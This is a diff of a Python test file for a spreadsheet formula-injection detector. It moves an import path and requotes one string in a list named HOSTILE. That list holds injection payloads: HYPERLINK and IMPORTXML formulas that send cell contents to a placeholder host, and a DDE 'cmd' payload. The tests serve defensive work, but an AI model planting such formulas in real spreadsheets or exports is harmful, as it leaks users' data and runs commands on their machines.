@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from nk_pipeline.lib.spreadsheet_text import (
+from nk_pipeline.shared.spreadsheet_text import (
     APOSTROPHE,
     formula_like_cells,
     is_formula_like,
@@ -39,7 +39,7 @@ HOSTILE = [
     "＠SUM(1)",
     "﹦1",  # small equals sign
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
-    "=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
     "+cmd|' /C calc'!A0",
     "-",
     "=",
